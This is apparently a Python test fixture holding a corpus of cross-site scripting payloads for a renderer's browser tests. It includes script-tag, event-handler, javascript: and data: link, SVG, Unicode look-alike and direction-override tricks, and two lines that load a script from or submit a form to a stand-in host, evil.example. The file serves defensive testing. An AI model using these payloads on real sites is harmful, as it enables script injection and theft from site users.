"""Hostile input for the XSS tests. Every payload that could run sets `window.__xss` and/or
opens a dialog, so the browser test can tell whether anything executed."""

from __future__ import annotations

CORPUS: list[str] = [
    # script tags, plain and disguised
    "<script>window.__xss=1;alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>script>window.__xss=1<</script>/script>",
    "\"><script>window.__xss=1</script>",
    "'><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    # event handlers
    "<img src=x onerror=\"window.__xss=1;alert(1)\">",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=\"window.__xss=1\">x</details>",
    "<div onmouseover=\"window.__xss=1\" style=\"position:fixed;inset:0\">x</div>",
    "\" autofocus onfocus=\"window.__xss=1\" x=\"",
    "' autofocus onfocus='window.__xss=1' x='",
    # javascript: and data: links
    "[klik her](javascript:window.__xss=1)",
    "[klik her](JaVaScRiPt:window.__xss=1)",
    "[klik her](java\tscript:window.__xss=1)",
    "[klik her](&#106;avascript:window.__xss=1)",
    "[klik her](javascript&colon;window.__xss=1)",
    "<a href=\"javascript:window.__xss=1\">klik</a>",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "![billede](javascript:window.__xss=1)",
    "![billede](x\" onerror=\"window.__xss=1)",
    "<iframe src=\"javascript:window.__xss=1\"></iframe>",
    # SVG payloads
    "<svg onload=\"window.__xss=1\"></svg>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><a xlink:href=\"javascript:window.__xss=1\"><text y=\"20\">x</text></a></svg>",
    "<svg><animate onbegin=\"window.__xss=1\" attributeName=\"x\" dur=\"1s\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    # markdown tricks
    "[a](https://example.org \"t\" onmouseover=\"window.__xss=1\")",
    "[a](<javascript:window.__xss=1>)",
    "`<script>window.__xss=1</script>`",
    "```\n<script>window.__xss=1</script>\n```",
    "<!-- --><script>window.__xss=1</script>",
    "[ref]\n\n[ref]: javascript:window.__xss=1",
    "<style>body{display:none}</style>",
    "<form action=\"https://evil.example/\"><button>Send</button></form>",
    "{{ 7*7 }} {% debug %} ${7*7}",
    # Unicode look-alikes and direction tricks
    "＜script＞window.__xss=1＜/script＞",
    "[klik](ｊａｖａｓｃｒｉｐｔ:window.__xss=1)",
    "\u202eexe.txt\u202c og \u200bskjult",
    "<scr\u0131pt>window.__xss=1</scr\u0131pt>",
    "jаvascript:window.__xss=1",  # Cyrillic а
]

# Text that must stay visible as text after rendering (a sample of the corpus).
VISIBLE = ["<script>", "onerror", "javascript:", "＜script＞", "{{ 7*7 }}"]
